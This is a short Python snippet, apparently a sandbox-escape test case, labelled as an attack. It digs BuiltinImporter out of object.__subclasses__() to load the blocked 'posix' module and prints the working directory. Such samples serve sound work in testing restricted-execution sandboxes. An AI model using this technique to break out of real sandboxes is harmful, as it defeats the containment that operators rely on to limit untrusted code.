# attack: use BuiltinImporter from object's subclasses to load a forbidden module
importer = [c for c in object.__subclasses__() if "BuiltinImporter" in repr(c)][0]
posix = importer.load_module("posix")
print(posix.getcwd())
